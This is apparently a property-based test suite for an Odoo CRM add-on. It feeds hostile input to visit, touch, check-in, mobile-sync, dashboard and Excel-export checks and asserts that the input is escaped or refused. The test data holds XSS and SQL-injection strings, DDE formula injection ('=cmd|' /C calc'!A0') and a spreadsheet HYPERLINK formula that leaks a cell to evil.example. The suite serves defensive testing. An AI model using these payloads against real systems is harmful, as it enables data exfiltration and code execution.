"""Hostile input against every anchor check (issue 7, "Trust").

Property-based (hypothesis): each check gets random Unicode, control and
format characters, HTML and script, SQL-like strings, 100,000-character
texts, dates from year 1 to 9999 and at DST edges in several timezones,
wrong JSON types, unknown or foreign ids and invalid attachments. The outcome
is one of two: accepted and stored verbatim (read back from the database), or
refused with a UserError (ValidationError, AccessError) whose message is not
empty and after which nothing was written. Any other exception fails.

Each example runs in a savepoint rolled back afterwards, and the operation
under test in a savepoint of its own, as a request's transaction would be.
Examples are derandomized (reproducible in CI) and counted by
``--hypothesis-show-statistics`` (scripts/test).
"""

import base64
import io
from contextlib import closing, contextmanager
from datetime import date, datetime, timedelta
from urllib.parse import urlencode

import lxml.html
import openpyxl
import pytz
from freezegun import freeze_time
from hypothesis import HealthCheck, Phase, currently_in_test_context, event, example, given, settings
from hypothesis import strategies as st

from odoo import fields
from odoo.exceptions import UserError
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import SQL

from .common import AnchorCase

CI = settings(
    derandomize=True,
    database=None,
    deadline=None,
    print_blob=False,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
    # Explaining a failure replays it many times through pytest's traceback formatting: minutes here.
    phases=[Phase.explicit, Phase.generate, Phase.shrink],
    report_multiple_bugs=False,
)
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
FRAGMENTS = [
    SCRIPT,
    "'; DROP TABLE crm_lead; --",
    "' OR '1'='1",
    '=HYPERLINK("http://evil.example","x")',
    "%(name)s %s {0} \\",
    "\u202eRTL\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "\ufeff\u200b\u200d",
    "👨‍👩‍👧🙂",
    "\x00",
    "\x07\x1b[31m\r\n\t",
    "客户说安装太慢，影响交付",
    "the customer says delivery is too slow",
]
TEXT = st.one_of(
    st.text(max_size=60),  # any Unicode but surrogates, NUL and control characters included
    st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6)), max_size=6).map("".join),
)
HUGE_TEXT = st.sampled_from(FRAGMENTS[-2:] + [SCRIPT]).map(lambda part: (part * 100_000)[:100_000])
HOSTILE_TEXT = st.one_of(TEXT, TEXT, TEXT, HUGE_TEXT)
LONG_SUMMARY = ("客户说安装太慢，影响交付。" * 10_000)[:100_000]
# What a JSON-RPC call can carry where the add-on expects something else.
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
    max_leaves=5,
)
RECENT_DAYS = st.dates(min_value=date(2025, 1, 1), max_value=date(2027, 12, 31)).map(str)
IDS = st.lists(st.integers(-5, 2**63), max_size=2)
TIMEZONES = ["America/New_York", "Europe/Berlin", "Asia/Shanghai", "Pacific/Kiritimati", "Pacific/Pago_Pago"]
# Local wall times that do not exist (New York, spring forward) or exist twice (Berlin, fall back).
DST_EDGES = [
    ("America/New_York", datetime(2026, 3, 8, 2, 30)),
    ("Europe/Berlin", datetime(2026, 10, 25, 2, 30)),
]
DATETIMES = st.one_of(
    st.datetimes(),  # year 1 to 9999
    st.sampled_from([local for _zone, local in DST_EDGES]),
    st.integers(-3 * 24 * 60, 400 * 24 * 60).map(lambda minutes: datetime.now() + timedelta(minutes=minutes)),
).map(lambda moment: moment.replace(microsecond=0))
PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
# Evidence a salesperson may attach: empty, lying about its type, large, oddly named.
ATTACHMENTS = st.fixed_dictionaries(
    {
        # ir.attachment is Odoo's: a NUL in its name fails there, before any anchor check.
        "name": TEXT.map(lambda name: name.replace("\x00", "")),
        "raw": st.sampled_from(
            [b"", b"MZ\x90\x00 not a png", base64.b64decode(PNG_1PX), b"\x00" * 2_000_000]
        ),
        "mimetype": st.sampled_from(["image/png", "application/x-msdownload", "text/html", "", "???"]),
    }
)
TABLES = (
    "crm_anchor_visit",
    "crm_anchor_touch",
    "crm_anchor_checkin",
    "crm_anchor_expectation",
    "mail_message",
    "mail_activity",
    "ir_attachment",
    "calendar_event",
)


class HostileMixin:
    """Runs examples in rolled-back savepoints and sorts their outcomes."""

    def _count_outcome(self, outcome):
        """Counted in the hypothesis statistics, per test."""
        if currently_in_test_context():
            event(outcome)

    @contextmanager
    def _example(self):
        with closing(self.env.cr.savepoint()):
            yield

    def _row_counts(self):
        self.env.flush_all()
        counts = {}
        for table in TABLES:
            self.env.cr.execute(SQL("SELECT count(*) FROM %s", SQL.identifier(table)))
            counts[table] = self.env.cr.fetchone()[0]
        return counts

    def _attempt(self, operation):
        """``(result, None)`` when ``operation`` succeeds, ``(None, error)`` when
        refused with a clear message and nothing written. Any other exception
        propagates and fails the test."""
        before = self._row_counts()
        try:
            with self.env.cr.savepoint():
                result = operation()
                self.env.flush_all()
        except UserError as error:
            self.assertTrue(str(error.args[0] if error.args else "").strip(), f"empty message: {error!r}")
            self.assertEqual(self._row_counts(), before, "a refused write left rows behind")
            self._count_outcome(f"refused ({type(error).__name__})")
            return None, error
        self._count_outcome("accepted")
        return result, None

    def assertNoMarkupFrom(self, html, text):
        """The user's text in ``html`` is text: none of its tags became elements."""
        tree = lxml.html.fragment_fromstring(str(html or ""), create_parent="div")
        self.assertLessEqual({el.tag for el in tree.iter()}, {"div", "p", "br", "span"}, (html, text))


@tagged("post_install", "-at_install")
class TestHostileInput(HostileMixin, AnchorCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["res.lang"]._activate_lang("en_US")
        cls.env = cls.env(context=dict(cls.env.context, lang="en_US"))
        cls.lead = cls._lead()
        cls.other_lead = cls._lead(user=cls.salesman_b)
        cls.visit_lead = cls._lead()
        cls._touch(cls.visit_lead)
        cls.visit_lead.stage_id = cls.stage["visit"]

    def _followup(self):
        return fields.Datetime.now().replace(microsecond=0) + timedelta(days=1)

    # ------------------------------------------------------------------
    # Visit: the three elements
    # ------------------------------------------------------------------

    @settings(CI, max_examples=50)
    @given(
        summary=HOSTILE_TEXT,
        value=HOSTILE_TEXT,
        note=HOSTILE_TEXT,
        action=st.sampled_from(["send_proposal", "arrange_demo", "provide_samples", "send_quote", "other"]),
        channel=st.sampled_from(["phone", "wechat", "onsite", "email", "video"]),
    )
    # A pasted essay: its repeat-detection key once overflowed the btree index (a server error).
    @example(summary=LONG_SUMMARY, value="预装配方案", note="", action="arrange_demo", channel="onsite")
    def test_visit_submission_with_hostile_text(self, summary, value, note, action, channel):
        with self._example():
            vals = self._visit_vals(
                self.visit_lead,
                pain_summary=summary,
                value_point=value,
                agreed_action=action,
                agreed_action_note=note,
                followup_channel=channel,
                date_next_followup=self._followup(),
                state="submitted",
            )
            Visit = self.env["crm.anchor.visit"].with_user(self.salesman)
            visit, error = self._attempt(lambda: Visit.create(vals))
            if "\x00" in summary + value + note:
                self.assertIsNotNone(error, "PostgreSQL cannot store NUL: it must be refused")
            if visit:
                visit.invalidate_recordset()
                self.assertEqual(
                    (visit.pain_summary, visit.value_point, visit.agreed_action_note, visit.state),
                    (summary, value, note, "submitted"),
                )
                self.assertLessEqual(len(value.strip()), 50)
                # The agreed action's activity carries the note as typed (a Char, shown escaped).
                self.assertIn(note.strip(), visit.activity_id.summary or "")

    @settings(CI, max_examples=40)
    @given(
        date_visit=DATETIMES,
        followup=DATETIMES,
        duration=st.floats(allow_nan=True, allow_infinity=True),
        tz=st.sampled_from(TIMEZONES),
    )
    def test_visit_dates_durations_and_timezones(self, date_visit, followup, duration, tz):
        with self._example():
            self.salesman.tz = tz
            vals = self._visit_vals(
                self.visit_lead,
                date_visit=date_visit,
                date_next_followup=followup,
                visit_duration=duration,
                state="submitted",
            )
            Visit = self.env["crm.anchor.visit"].with_user(self.salesman)
            visit, _error = self._attempt(lambda: Visit.create(vals))
            if visit:
                visit.invalidate_recordset()
                self.assertEqual((visit.date_visit, visit.date_next_followup), (date_visit, followup))
                self.assertEqual(visit.visit_duration, duration)
                # The activity is due on the follow-up's day where the salesperson is.
                local = pytz.utc.localize(followup).astimezone(pytz.timezone(tz))
                self.assertEqual(visit.activity_id.date_deadline, local.date())

    @settings(CI, max_examples=20)
    @given(reason=st.one_of(HOSTILE_TEXT, JSON))
    def test_visit_reopen_reason(self, reason):
        with self._example():
            visit = self._visit(self.visit_lead, date_next_followup=self._followup(), state="submitted")
            _done, error = self._attempt(lambda: visit.with_user(self.manager).action_reopen(reason))
            if not error:
                self.assertEqual(visit.state, "draft")
                self.assertNoMarkupFrom(visit.message_ids[0].body, reason)

    # ------------------------------------------------------------------
    # Touch: customer's words and evidence
    # ------------------------------------------------------------------

    @settings(CI, max_examples=30)
    @given(words=HOSTILE_TEXT, evidence=st.lists(ATTACHMENTS, max_size=2), date=DATETIMES)
    def test_touch_with_hostile_words_and_evidence(self, words, evidence, date):
        with self._example():
            attachments = self.env["ir.attachment"].with_user(self.salesman).create(evidence)
            vals = {
                "lead_id": self.lead.id,
                "user_id": self.salesman.id,
                "method": "wechat",
                "date": date,
                "customer_words": words,
                "evidence_attachment_ids": [(6, 0, attachments.ids)],
                "state": "done",
            }
            Touch = self.env["crm.anchor.touch"].with_user(self.salesman)
            touch, error = self._attempt(lambda: Touch.create(vals))
            if not words.strip() or not evidence:
                self.assertIsNotNone(error, "a touch without words or evidence must be refused")
            if touch:
                touch.invalidate_recordset()
                self.assertEqual((touch.customer_words, touch.date), (words, date))
                self.assertEqual(touch.evidence_attachment_ids, attachments)
                self.assertEqual(self.lead.date_first_touch, date)

    def test_refusals_are_in_the_users_language(self):
        self.env["res.lang"]._activate_lang("zh_CN")
        Visit = self.env["crm.anchor.visit"].with_user(self.salesman).with_context(lang="zh_CN")
        vals = self._visit_vals(
            self.visit_lead, pain_summary="客户说安装\x00太慢", visit_duration=float("nan")
        )
        with self.assertRaises(UserError) as caught:
            Visit.create(vals)
        self.assertIn("含有无法保存的字符", str(caught.exception))
        with self.assertRaises(UserError) as caught:
            Visit.create(dict(vals, pain_summary="客户说安装太慢"))
        self.assertIn("一次拜访的时长应在 0 到 24 小时之间", str(caught.exception))
        with self.assertRaises(UserError) as caught:
            self.env["crm.anchor.dashboard"].with_context(lang="zh_CN").get_data("0001-01-01", "2026-01-31")
        self.assertIn("请选择 1900-01-01 至 2999-12-31 之间的时间段", str(caught.exception))

    def test_evidence_that_is_not_base64_never_reaches_the_touch(self):
        """Odoo refuses such an attachment itself (ir.attachment decodes ``datas``),
        before any anchor check: the touch then has no evidence and is refused."""
        with self.assertRaises(ValueError):
            self.env["ir.attachment"].create({"name": "x.png", "datas": "not base64!"})
        Touch = self.env["crm.anchor.touch"].with_user(self.salesman)
        _touch, error = self._attempt(
            lambda: Touch.create(
                {"lead_id": self.lead.id, "customer_words": "客户说价格太高", "state": "done"}
            )
        )
        self.assertIn("evidence", str(error))

    # ------------------------------------------------------------------
    # Stage gates: forced moves and documents
    # ------------------------------------------------------------------

    @settings(CI, max_examples=25)
    @given(
        stage=st.sampled_from(["lead", "visit", "proposal", "quote", "signed", "delivery"]),
        reason=HOSTILE_TEXT,
        documents=st.lists(ATTACHMENTS, max_size=2),
    )
    def test_stage_gates_forced_with_a_hostile_reason(self, stage, reason, documents):
        with self._example():
            lead = self.visit_lead
            attachments = self.env["ir.attachment"].create(documents)
            lead.anchor_quote_attachment_ids = attachments
            Wizard = self.env["crm.anchor.stage.force"].with_user(self.manager)
            messages = lead.message_ids

            def force():
                wizard = Wizard.create(
                    {"lead_id": lead.id, "stage_id": self.stage[stage].id, "reason": reason}
                )
                return wizard.action_confirm()

            _done, error = self._attempt(force)
            if not error:
                self.assertEqual(lead.stage_id, self.stage[stage])
                for message in lead.message_ids - messages:
                    self.assertNoMarkupFrom(message.body, reason)

    # ------------------------------------------------------------------
    # Daily check-ins
    # ------------------------------------------------------------------

    @settings(CI, max_examples=20)
    @given(
        need=HOSTILE_TEXT,
        with_partner=st.booleans(),
        tops=st.lists(st.sampled_from(["lead", "other_lead", "visit_lead"]), max_size=4, unique=True),
        tz=st.sampled_from(TIMEZONES),
        day=st.one_of(st.dates(), st.sampled_from([local.date() for _zone, local in DST_EDGES])),
    )
    def test_checkins_with_hostile_input(self, need, with_partner, tops, tz, day):
        with self._example():
            self.salesman.tz = tz
            Checkin = self.env["crm.anchor.checkin"]
            checkin, _error = self._attempt(
                lambda: Checkin.create({"user_id": self.salesman.id, "team_id": self.team.id, "date": day})
            )
            if not checkin:
                return
            mine = checkin.with_user(self.salesman)
            partner = self.customer if with_partner else self.env["res.partner"]

            def morning():
                mine.write({"morning_partner_id": partner.id, "morning_need": need})
                return mine.action_checkin_morning()

            _done, error = self._attempt(morning)
            if not error:
                checkin.invalidate_recordset()
                self.assertEqual(checkin.morning_need, need)
                self.assertIn(checkin.morning_state, ("on_time", "late"))

            def evening():
                mine.write({"top_lead_ids": [(6, 0, [getattr(self, name).id for name in tops])]})
                return mine.action_checkin_evening()

            _done, error = self._attempt(evening)
            if not error:
                self.assertIn(checkin.evening_state, ("on_time", "late"))

    # ------------------------------------------------------------------
    # Mobile sync
    # ------------------------------------------------------------------

    def _mobile_entry(self, uuid):
        return {
            "client_uuid": uuid,
            "lead_id": self.visit_lead.id,
            "date_visit": fields.Datetime.to_string(fields.Datetime.now() - timedelta(hours=1)),
            "pain_category_id": self.category_price.id,
            "pain_summary": "客户说安装太慢，影响交付",
            "value_point": "预装配方案，安装时间减半",
            "agreed_action": "arrange_demo",
            "agreed_action_note": "",
            "date_next_followup": fields.Datetime.to_string(self._followup()),
            "followup_channel": "onsite",
            "quick_note": "客户嫌安装慢，约明天现场演示",
            "photo": None,
            "remind": True,
        }

    def _entry_values(self):
        """For each key of an entry, what a broken or hostile page could send."""
        ids = st.one_of(
            st.sampled_from(
                [self.visit_lead.id, self.other_lead.id, 0, -1, 2**31, 2**63, "12", "abc", True, 1.5]
            ),
            JSON,
        )
        dates = st.one_of(
            DATETIMES.map(fields.Datetime.to_string),
            st.sampled_from(["tomorrow", "2026-02-30 10:00:00", "2026-03-08T02:30:00Z", ""]),
            JSON,
        )
        photos = st.one_of(
            st.sampled_from(
                [
                    None,
                    {"name": "签收单.png", "data": PNG_1PX},
                    {"name": SCRIPT, "data": "data:image/png;base64," + PNG_1PX},
                    {"data": "not base64!"},
                    {"data": ""},
                    {"data": base64.b64encode(b"MZ\x90\x00").decode()},
                    {"data": base64.b64encode(b"\x00" * 2_000_000).decode()},
                    "photo.png",
                ]
            ),
            JSON,
        )
        text = st.one_of(HOSTILE_TEXT, JSON)
        return {
            "client_uuid": st.one_of(st.uuids().map(str), TEXT, JSON),
            "lead_id": ids,
            "pain_category_id": ids,
            "date_visit": dates,
            "date_next_followup": dates,
            "pain_summary": text,
            "value_point": text,
            "agreed_action": st.one_of(st.sampled_from(["send_quote", "bogus", " other "]), text),
            "agreed_action_note": text,
            "followup_channel": st.one_of(st.sampled_from(["phone", "fax"]), text),
            "quick_note": text,
            "photo": photos,
            "remind": JSON,
        }

    @settings(CI, max_examples=40)
    @given(data=st.data())
    def test_mobile_sync_with_malformed_entries(self, data):
        values = self._entry_values()
        entries = []
        for index in range(data.draw(st.integers(1, 3), "entries")):
            entry = self._mobile_entry(f"hostile-{index}")
            for key in data.draw(st.sets(st.sampled_from(sorted(values)), max_size=4), "broken keys"):
                if data.draw(st.booleans(), f"drop {key}"):
                    entry.pop(key)
                else:
                    entry[key] = data.draw(values[key], key)
            entries.append(data.draw(st.one_of(st.just(entry), JSON), "entry") if index == 2 else entry)
        with self._example():
            Visit = self.env["crm.anchor.visit"].sudo()
            before = self._row_counts()
            # A list of entries is never refused as a whole: each entry gets its outcome.
            results = self.env["crm.anchor.mobile"].with_user(self.salesman).sync_entries(entries)
            self.assertEqual(len(results), len(entries))
            if all(result["status"] == "refused" for result in results):
                self.assertEqual(self._row_counts(), before, "a refused entry left rows behind")
            for entry, result in zip(entries, results, strict=True):
                self.assertIn(result["status"], ("created", "duplicate", "refused"))
                self._count_outcome(f"entry {result['status']}")
                if result["status"] == "refused":
                    self.assertTrue(result["message"].strip())
                    self.assertFalse(result["visit_id"])
                    continue
                visit = Visit.browse(result["visit_id"])
                visit.invalidate_recordset()
                self.assertEqual(visit.client_uuid, entry["client_uuid"].strip())
                self.assertEqual(visit.user_id, self.salesman)
                if result["status"] == "created":
                    for key in ("pain_summary", "value_point", "agreed_action_note"):
                        self.assertEqual(visit[key] or "", (entry.get(key) or "").strip())
            # A refused identifier may not even be searchable (a NUL character).
            received = [r["client_uuid"] for r in results if r["status"] != "refused"]
            created = Visit.search([("client_uuid", "in", received)])
            self.assertEqual(
                set(created.ids), {r["visit_id"] for r in results if r["status"] in ("created", "duplicate")}
            )

    @settings(CI, max_examples=10)
    @given(entries=JSON)
    def test_mobile_sync_with_anything_but_a_list(self, entries):
        with self._example():
            results, _error = self._attempt(lambda: self.env["crm.anchor.mobile"].sync_entries(entries))
            if results is not None:
                self.assertEqual(len(results), len(entries))
                self.assertTrue(all(r["status"] == "refused" and r["message"] for r in results))

    def test_mobile_entry_html_is_escaped_in_chatter_and_calendar(self):
        entry = dict(
            self._mobile_entry("uuid-escaped"),
            agreed_action="other",
            agreed_action_note=f"<b>bold</b>{SCRIPT}",
            quick_note=f"{SCRIPT} 客户嫌安装慢",
        )
        [result] = self.env["crm.anchor.mobile"].with_user(self.salesman).sync_entries([entry])
        self.assertEqual(result["status"], "created", result["message"])
        visit = self.env["crm.anchor.visit"].browse(result["visit_id"])
        note = visit.message_ids.filtered(lambda m: "客户嫌安装慢" in (m.body or ""))
        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;", note.body)
        self.assertNoMarkupFrom(note.body, SCRIPT)
        event = self.env["calendar.event"].search([("res_id", "=", self.visit_lead.id)])
        self.assertIn("&lt;b&gt;bold&lt;/b&gt;&lt;script&gt;", event.description)
        self.assertNoMarkupFrom(event.description, entry["agreed_action_note"])

    def test_reasons_and_template_names_are_escaped_in_chatter(self):
        visit = self._visit(self.visit_lead, date_next_followup=self._followup(), state="submitted")
        visit.with_user(self.manager).action_reopen(SCRIPT)
        self.assertIn("&lt;script&gt;", visit.message_ids[0].body)
        self.assertNoMarkupFrom(visit.message_ids[0].body, SCRIPT)
        lead = self._lead()
        self.env["crm.anchor.stage.force"].with_user(self.manager).create(
            {"lead_id": lead.id, "stage_id": self.stage["quote"].id, "reason": SCRIPT}
        ).action_confirm()
        self.assertIn("&lt;script&gt;", lead.message_ids[0].body)
        self.assertNoMarkupFrom(lead.message_ids[0].body, SCRIPT)
        template = self.env["crm.anchor.template"].create(
            {"name": SCRIPT, "pain_category_id": self.category_price.id, "what_to_say": "先试用再付款"}
        )
        template.action_publish()
        draft = self._visit(self.visit_lead, date_next_followup=self._followup())
        template.with_user(self.salesman).with_context(anchor_visit_id=draft.id).action_use_in_visit()
        self.assertIn("&lt;script&gt;", draft.message_ids[0].body)
        self.assertNoMarkupFrom(draft.message_ids[0].body, SCRIPT)

    def test_qr_report_escapes_names(self):
        self.salesman.name = SCRIPT
        report = self.env.ref("sales_action_anchor.action_report_anchor_mobile_qr_user")
        html, _type = self.env["ir.actions.report"]._render_qweb_html(report.report_name, self.salesman.ids)
        html = html.decode()
        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;", html)
        self.assertNotIn(SCRIPT, html)

    @settings(CI, max_examples=15)
    @given(pain=HOSTILE_TEXT, what_to_say=HOSTILE_TEXT)
    @example(pain="安装太慢", what_to_say=LONG_SUMMARY)
    def test_talk_template_with_hostile_text(self, pain, what_to_say):
        with self._example():
            Template = self.env["crm.anchor.template"].with_user(self.manager)
            vals = {
                "pain_category_id": self.category_price.id,
                "pain_point": pain,
                "what_to_say": what_to_say,
            }
            template, error = self._attempt(lambda: Template.create(vals))
            if "\x00" in pain + what_to_say:
                self.assertIsNotNone(error)
            if template:
                template.invalidate_recordset()
                self.assertEqual((template.pain_point, template.what_to_say), (pain, what_to_say))

    # ------------------------------------------------------------------
    # Quick note, dashboard and morning views over RPC
    # ------------------------------------------------------------------

    @settings(CI, max_examples=30)
    @given(
        text=st.one_of(HOSTILE_TEXT, JSON),
        now=st.one_of(
            st.none(),
            DATETIMES.map(fields.Datetime.to_string),
            st.sampled_from([local.isoformat(" ") for _zone, local in DST_EDGES]),
            JSON,
        ),
        tz=st.sampled_from(TIMEZONES),
        utc_now=st.datetimes(min_value=datetime(2026, 1, 1), max_value=datetime(2026, 12, 31)),
    )
    def test_parse_quick_note_over_rpc(self, text, now, tz, utc_now):
        with self._example(), freeze_time(utc_now):
            self.salesman.tz = tz
            Visit = self.env["crm.anchor.visit"].with_user(self.salesman)
            result, _error = self._attempt(lambda: Visit.parse_quick_note(text, now))
            if result is not None:
                self.assertEqual(
                    set(result), {"pain_point", "value_point", "agreed_action", "next_followup", "channel"}
                )
                self.assertLessEqual(len(result["value_point"]), 50)
                if result["next_followup"]:
                    fields.Datetime.to_datetime(result["next_followup"])

    def test_followups_at_dst_edges_in_the_users_timezone(self):
        """A note parsed at a missing (New York) or repeated (Berlin) local hour
        gives the wall-clock time; the page turns it into UTC in the user's
        zone (entry_queue.js), and the agreed action falls due on that local day."""
        cases = [
            # zone, UTC now, note, local follow-up, its UTC hour, UTC of that day's 08:50 deadline
            (
                "America/New_York",
                datetime(2026, 3, 8, 6, 59),
                "今天下午3点打电话",
                "2026-03-08 15:00:00",
                19,
                12,
            ),
            (
                "America/New_York",
                datetime(2026, 3, 8, 7, 1),
                "tomorrow 10am demo",
                "2026-03-09 10:00:00",
                14,
                12,
            ),
            ("Europe/Berlin", datetime(2026, 10, 25, 0, 30), "明天上午10点演示", "2026-10-26 10:00:00", 9, 7),
            (
                "Europe/Berlin",
                datetime(2026, 10, 25, 1, 30),
                "今天下午3点打电话",
                "2026-10-25 15:00:00",
                14,
                7,
            ),
        ]
        Visit = self.env["crm.anchor.visit"].with_user(self.salesman)
        for zone, utc_now, note, local, utc_hour, deadline_hour in cases:
            with self.subTest(zone=zone, utc_now=utc_now), self._example(), freeze_time(utc_now):
                self.salesman.tz = zone
                tz = pytz.timezone(zone)
                local_now = pytz.utc.localize(utc_now).astimezone(tz).replace(tzinfo=None)
                parsed = Visit.parse_quick_note(note)
                self.assertEqual(parsed, Visit.parse_quick_note(note, fields.Datetime.to_string(local_now)))
                self.assertEqual(parsed["next_followup"], local)
                followup = tz.localize(fields.Datetime.to_datetime(local)).astimezone(pytz.utc)
                self.assertEqual(followup.hour, utc_hour)
                visit = self._visit(
                    self.visit_lead, date_next_followup=followup.replace(tzinfo=None), state="submitted"
                )
                self.assertEqual(str(visit.activity_id.date_deadline), local[:10])
                self.assertIn(local[:16], str(visit.activity_id.note))
                # The morning check-in deadline (08:50 local) of that day, in UTC.
                checkin = self.env["crm.anchor.checkin"].create(
                    {"user_id": self.salesman.id, "team_id": self.team.id, "date": local_now.date()}
                )
                deadline = checkin._deadline(8 + 50 / 60)
                expected = datetime.combine(local_now.date(), datetime.min.time()).replace(
                    hour=deadline_hour, minute=50
                )
                self.assertLess(abs(deadline - expected), timedelta(seconds=1))

    @settings(CI, max_examples=20)
    @given(
        date_from=st.one_of(RECENT_DAYS, RECENT_DAYS, st.dates().map(str), JSON),
        date_to=st.one_of(RECENT_DAYS, RECENT_DAYS, st.dates().map(str), JSON),
        team_ids=st.one_of(st.none(), st.lists(st.integers(1, 50), max_size=2), IDS, JSON),
        user_ids=st.one_of(st.none(), st.lists(st.integers(1, 50), max_size=2), IDS, JSON),
        model=st.sampled_from(["crm.anchor.dashboard", "crm.anchor.morning"]),
    )
    def test_dashboard_and_morning_views_with_bad_arguments(
        self, date_from, date_to, team_ids, user_ids, model
    ):
        with self._example():
            Model = self.env[model].with_user(self.manager)
            data, _error = self._attempt(lambda: Model.get_data(date_from, date_to, team_ids, user_ids))
            if data is not None:
                self.assertEqual(
                    fields.Date.to_date(data["period"]["date_from"]), fields.Date.to_date(date_from)
                )

    def test_word_cloud_words_are_plain_text(self):
        """The morning view's words are data, rendered by OWL with t-esc
        (tests/unit checks the templates): no markup is added nor kept."""
        self._visit(
            self.visit_lead,
            pain_summary=f"{SCRIPT} 交期太长 delivery delays",
            date_visit=fields.Datetime.now() - timedelta(hours=2),
            date_next_followup=self._followup(),
            state="submitted",
        )
        today = fields.Date.context_today(self.env.user)
        data = self.env["crm.anchor.morning"].get_data(
            str(today - timedelta(days=2)), str(today + timedelta(days=1)), user_ids=[self.salesman.id]
        )
        words = {entry["word"] for entry in data["words"]}
        self.assertIn("交期", words)
        self.assertFalse({word for word in words if set(word) & set("<>&\"'")}, words)


@tagged("post_install", "-at_install")
class TestHostileXlsx(HostileMixin, HttpCase):
    """The dashboard's Excel export: bad parameters are a 400 with a message,
    and names that look like formulas stay text."""

    FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.team = cls.env.ref("sales_action_anchor.crm_team_anchor")
        cls.manager = new_test_user(cls.env, "hostile_xlsx_manager", groups="sales_team.group_sale_manager")
        cls.rep = new_test_user(
            cls.env, "hostile_xlsx_rep", groups="sales_team.group_sale_salesman", name=cls.FORMULA_NAME
        )
        cls.team.member_ids |= cls.manager | cls.rep
        lead = cls.env["crm.lead"].create(
            {
                "name": SCRIPT,
                "type": "opportunity",
                "team_id": cls.team.id,
                "user_id": cls.rep.id,
                "partner_id": cls.env["res.partner"].create({"name": "@SUM(1+1)*cmd|' /C calc'!A0"}).id,
                "stage_id": cls.env.ref("sales_action_anchor.stage_anchor_lead").id,
            }
        )
        cls.env["crm.anchor.visit"].create(
            {
                "lead_id": lead.id,
                "user_id": cls.rep.id,
                "pain_category_id": cls.env.ref("sales_action_anchor.pain_category_price").id,
                "pain_summary": "=cmd|' /C calc'!A0 客户说安装太慢，影响交付",
                "value_point": "+1+1",
                "agreed_action": "send_quote",
                "date_next_followup": fields.Datetime.now() + timedelta(days=2),
                "followup_channel": "phone",
                "state": "submitted",
                "signal_ids": [(6, 0, cls.env.ref("sales_action_anchor.signal_second_quote").ids)],
            }
        )

    def _get(self, **params):
        return self.url_open(f"/sales_action_anchor/dashboard/xlsx?{urlencode(params)}")

    @settings(CI, max_examples=12)
    @given(
        params=st.dictionaries(
            st.sampled_from(["date_from", "date_to", "team_ids", "user_ids"]),
            st.one_of(
                TEXT.filter(lambda text: "\x00" not in text),  # a URL cannot carry NUL
                st.dates().map(str),
                st.sampled_from(["0001-01-01", "9999-12-31", "99999999999", "1,2,99999999999", SCRIPT]),
            ),
        )
    )
    def test_bad_parameters_are_a_400_with_a_message(self, params):
        self.authenticate("hostile_xlsx_manager", "hostile_xlsx_manager")
        params = {"date_from": "2026-01-01", "date_to": "2026-01-31", **params}
        response = self._get(**params)
        self.assertIn(response.status_code, (200, 400), response.text[:300])
        self._count_outcome(f"HTTP {response.status_code}")
        if response.status_code == 400:
            self.assertIn("Bad Request", response.text)
            self.assertNotIn("Traceback", response.text)
            self.assertNotIn("<script>", response.text)

    def test_formula_like_names_are_written_as_text(self):
        self.authenticate("hostile_xlsx_manager", "hostile_xlsx_manager")
        today = fields.Date.today()
        response = self._get(date_from=str(today - timedelta(days=7)), date_to=str(today + timedelta(days=7)))
        self.assertEqual(response.status_code, 200, response.text[:300])
        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        # No cell holds a formula (xlsxwriter's write() would make one of "=..."): user text is text.
        self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"])
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        self.assertIn(self.FORMULA_NAME, texts)
        self.assertTrue([text for text in texts if text.endswith("@SUM(1+1)*cmd|' /C calc'!A0")], texts)
